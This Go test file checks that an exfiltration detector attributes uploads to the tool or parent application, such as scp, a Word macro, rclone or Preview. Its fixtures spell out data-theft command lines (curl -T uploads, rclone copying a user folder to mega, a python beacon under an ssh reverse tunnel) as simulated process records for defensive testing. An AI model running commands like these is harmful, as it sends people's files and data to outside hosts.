package detect

import (
	"net/netip"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/outflow-sensor/outflow/enrich/feed"
	"github.com/outflow-sensor/outflow/enrich/process"
	"github.com/outflow-sensor/outflow/entropy"
)

// withAncestors is an attribution of owner whose parent chain is
// ancestors (image and command pairs), nearest first, pids 4200 up.
func withAncestors(owner, cmd string, ancestors ...[2]string) *process.Attribution {
	p := proc(owner, cmd)
	for i, a := range ancestors {
		p.Ancestors = append(p.Ancestors, process.Ancestor{PID: int64(4200 + i), Image: a[0], Command: a[1],
			Start: day0.Add(-time.Duration(2+i) * time.Minute)})
	}
	if len(ancestors) > 0 {
		p.PPID, p.ParentImage, p.ParentCommand = 4200, ancestors[0][0], ancestors[0][1]
	}
	return p
}

var scpSession = withAncestors("/usr/bin/ssh", "/usr/bin/ssh -x -oForwardAgent=no -l alice backup.example scp -t /srv",
	[2]string{"/usr/bin/scp", "scp -r /home/alice/docs backup.example:/srv"}, [2]string{"/bin/bash", "-bash"})

// TestToolUploadThroughSSH is issue 15: scp hands its connection to an ssh
// child, which owns the socket. AN1512 names scp, the tool that started
// the transfer, and ssh, the socket's owner; the evidence says both and
// the chain. One scp session is one alert: its flows add up in one
// window and later ones are silenced by the dedup key, which is scp's.
// With LineageDepth 0 (the owner alone) ssh is no monitored tool and
// nothing fires.
func TestToolUploadThroughSSH(t *testing.T) {
	e, c := newEngine(t, nil, nil)
	for i := 0; i < 4; i++ {
		f := tcp(day0.Add(time.Duration(i)*time.Minute), "10.0.0.5", "203.0.113.9", 22, 6<<20, 40<<10)
		f.App, f.Handshake, f.OrigProc = "ssh", true, scpSession
		f.CommunityID = CIDOf([]byte{byte(i)})
		e.Flow(f)
	}
	a := c.by("AN1512")
	if len(a) != 1 {
		t.Fatalf("%d AN1512 alerts, want 1: %+v", len(a), c.alerts)
	}
	m := a[0].Evidence.Measured
	if !strings.HasPrefix(a[0].Title, "scp (through ssh) uploaded 12.0 MiB to 203.0.113.9") {
		t.Errorf("title %q", a[0].Title)
	}
	if m["tool"] != "scp" || m["tool_pid"] != int64(4200) || m["socket_owner"] != "ssh" || m["flows"] != uint64(2) ||
		!reflect.DeepEqual(m["lineage"], []string{"/usr/bin/ssh", "/usr/bin/scp", "/bin/bash"}) {
		t.Errorf("measured %+v", m)
	}
	if a[0].Process == nil || a[0].Process.Name != "ssh" || !strings.Contains(a[0].DedupKey, "|scp|") {
		t.Errorf("process %+v, dedup key %q", a[0].Process, a[0].DedupKey)
	}
	if s := e.Snapshot(); s.Suppressed != 1 {
		t.Errorf("suppressed %d, want the session's second alert", s.Suppressed)
	}

	cfg := Compiled()
	cfg.LineageDepth = 0
	e, c = newEngine(t, cfg, nil)
	f := tcp(day0, "10.0.0.5", "203.0.113.9", 22, 30<<20, 40<<10)
	f.App, f.Handshake, f.OrigProc = "ssh", true, scpSession
	e.Flow(f)
	if a := c.by("AN1512"); len(a) != 0 {
		t.Errorf("LineageDepth 0 alerted: %s", a[0].Title)
	}
	// The depth counts ancestors: scp is the first.
	cfg = Compiled()
	cfg.LineageDepth = 1
	e, c = newEngine(t, cfg, nil)
	e.Flow(f)
	if a := c.by("AN1512"); len(a) != 1 || !reflect.DeepEqual(a[0].Evidence.Measured["lineage"], []string{"/usr/bin/ssh", "/usr/bin/scp"}) {
		t.Errorf("LineageDepth 1: %+v", a)
	}
}

// TestToolUploadArchiverAlongChain: a tar in an ancestor's command line
// (tar czf - docs | curl -T - ...: curl's parent is the shell running the
// pipeline) says the files were gathered first, as it did for the owner's
// own command line.
func TestToolUploadArchiverAlongChain(t *testing.T) {
	e, c := newEngine(t, nil, nil)
	f := tcp(day0, "10.0.0.5", "203.0.113.9", 443, 30<<20, 40<<10)
	f.App, f.Handshake = "tls", true
	f.OrigProc = withAncestors("/usr/bin/curl", "curl -T - https://upload.example/", [2]string{"/bin/sh", "sh -c ./ship.sh"},
		[2]string{"/bin/bash", "bash ./ship.sh /srv/dump.tar.gz"})
	e.Flow(f)
	a := c.by("AN1512")
	if len(a) != 1 || a[0].Evidence.Measured["archiver_in_command"] != true || a[0].Severity != High ||
		a[0].Evidence.Measured["tool"] != "curl" || a[0].Evidence.Measured["tool_depth"] != nil {
		t.Fatalf("%+v", a)
	}
	if strings.Contains(a[0].Title, "through") {
		t.Errorf("title %q names an owner other than the tool", a[0].Title)
	}
}

// TestExfilAppOfficeParent: a program Word started (a macro's curl.exe)
// sends a document to a file-sharing service: AN1511 names Word, and the
// program that owned the socket; with LineageDepth 0 it does not fire.
func TestExfilAppOfficeParent(t *testing.T) {
	child := withAncestors(`C:\Windows\System32\curl.exe`, `curl.exe -T report.docx https://content.dropboxapi.com/`,
		[2]string{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"WINWORD.EXE" /n report.docm`})
	for _, depth := range []int{4, 0} {
		cfg := Compiled()
		cfg.LineageDepth = depth
		e, c := newEngine(t, cfg, nil)
		f := tcp(day0, "10.0.0.5", "162.125.1.1", 443, 30<<20, 50<<10)
		f.ServerName, f.App, f.Handshake, f.OrigProc = "content.dropboxapi.com", "tls", true, child
		e.Flow(f)
		a := c.by("AN1511")
		if depth == 0 {
			if len(a) != 0 {
				t.Errorf("LineageDepth 0 alerted: %s", a[0].Title)
			}
			continue
		}
		if len(a) != 1 || !strings.HasPrefix(a[0].Title, "winword.exe (through curl.exe) uploaded") ||
			a[0].Evidence.Measured["tool"] != "winword.exe" || a[0].Evidence.Measured["socket_owner"] != "curl.exe" ||
			!strings.Contains(a[0].DedupKey, "|winword.exe|") {
			t.Fatalf("%+v", a)
		}
	}
}

// TestToolThenSendAncestor: a cloud-sync tool whose helper holds the
// socket is still the tool that sends.
func TestToolThenSendAncestor(t *testing.T) {
	e, c := newEngine(t, nil, nil)
	f := tcp(day0, "10.0.0.5", "203.0.113.9", 443, 4<<20, 20<<10)
	f.App, f.Handshake = "tls", true
	f.OrigProc = withAncestors(`C:\Windows\System32\conhost.exe`, "conhost.exe 0xffffffff", [2]string{`C:\Tools\rclone.exe`, "rclone.exe copy C:\\Users\\alice mega:"})
	e.Flow(f)
	a := c.by("tool_then_send")
	if len(a) != 1 || !strings.HasPrefix(a[0].Title, "rclone.exe (through conhost.exe) (cloud-sync/exfil) sent") ||
		a[0].Evidence.Measured["started_before_s"] != 120.0 {
		t.Fatalf("%+v", a)
	}
}

// TestAllowedCryptoOwnerOnly: an allowed program (ssh) does not vouch for
// its children: python3 run from an ssh session's shell sending a cipher
// stream without a handshake still raises the host variant.
func TestAllowedCryptoOwnerOnly(t *testing.T) {
	ev := events{{Kind: feed.KindModuleLoad, Host: "ws1", PID: 4242, Time: day0.Add(-30 * time.Second), Target: "/usr/lib/x86_64-linux-gnu/libcrypto.so.3", Feed: "test"}}
	e, c := newEngine(t, nil, ev)
	f := tcp(day0, "10.0.0.5", "203.0.113.9", 4444, 200<<10, 3000)
	f.Class, f.Bits, f.N = [2]entropy.Class{entropy.Encrypted, entropy.Text}, [2]float64{7.95, 4.1}, [2]int{4096, 800}
	f.OrigProc = withAncestors("/usr/bin/python3.11", "python3 beacon.py", [2]string{"/usr/bin/ssh", "ssh -R 9000:localhost:22 relay"})
	e.Flow(f)
	if a := c.by("AN0401"); len(a) != 1 {
		t.Fatalf("%+v", c.alerts)
	}
}

// TestLineageDepthChecked: outflow check names LineageDepth when it is
// out of range.
func TestLineageDepthChecked(t *testing.T) {
	for _, in := range []string{"LineageDepth: 17\n", "LineageDepth: -1\n"} {
		_, err := ParseConfig("outflow.yaml", []byte(in))
		if err == nil || !strings.Contains(err.Error(), "LineageDepth") || !strings.Contains(err.Error(), "outflow.yaml:1:") {
			t.Errorf("%q: %v", in, err)
		}
	}
	if c, err := ParseConfig("outflow.yaml", []byte("LineageDepth: 16\n")); err != nil || c.LineageDepth != 16 {
		t.Errorf("16: %v", err)
	}
}

// TestMacAppAncestor: Preview wrote the document and started the program
// that sends it: AN1513 names Preview, through the socket's owner, and
// counts Preview's own file writes.
func TestMacAppAncestor(t *testing.T) {
	ev := events{{Kind: feed.KindFileCreate, Host: "ws1", PID: 4200, Time: day0.Add(-time.Minute), Target: "/Users/alice/Documents/q3.pdf", Feed: "test"}}
	e, c := newEngine(t, nil, ev)
	f := tcp(day0, "10.0.0.5", "203.0.113.9", 443, 8<<20, 20<<10)
	f.App, f.Handshake = "tls", true
	f.OrigProc = withAncestors("/usr/bin/curl", "curl -T q3.pdf https://drop.example/", [2]string{"/System/Applications/Preview.app/Contents/MacOS/Preview", "Preview"})
	e.Flow(f)
	a := c.by("AN1513")
	if len(a) != 1 || !strings.HasPrefix(a[0].Title, "Preview (through curl) uploaded 8.0 MiB") || a[0].Evidence.Measured["documents_written"] != 1 {
		t.Fatalf("%+v", a)
	}
}

// TestFlowWithoutProcessAllocatesNothing: the lineage lookups happen only
// for a flow with a process; without one, an ordinary TLS flow through
// every analytic allocates nothing (BenchmarkEngineFlow's case).
func TestFlowWithoutProcessAllocatesNothing(t *testing.T) {
	e, _ := newEngine(t, nil, nil)
	f := tcp(day0, "10.0.0.5", "203.0.113.9", 443, 500, 4000)
	f.App, f.Handshake, f.ServerName = "tls", true, "site1.example"
	i := 0
	step := func() {
		i++
		f.Orig = netip.AddrPortFrom(f.Orig.Addr(), uint16(1024+i%60000))
		f.Start = day0.Add(time.Duration(i) * time.Millisecond)
		f.End = f.Start.Add(time.Second)
		e.Flow(f)
	}
	for range 1000 {
		step()
	}
	if n := testing.AllocsPerRun(1000, step); n != 0 {
		t.Errorf("%.1f allocations per flow without a process, want 0", n)
	}
}
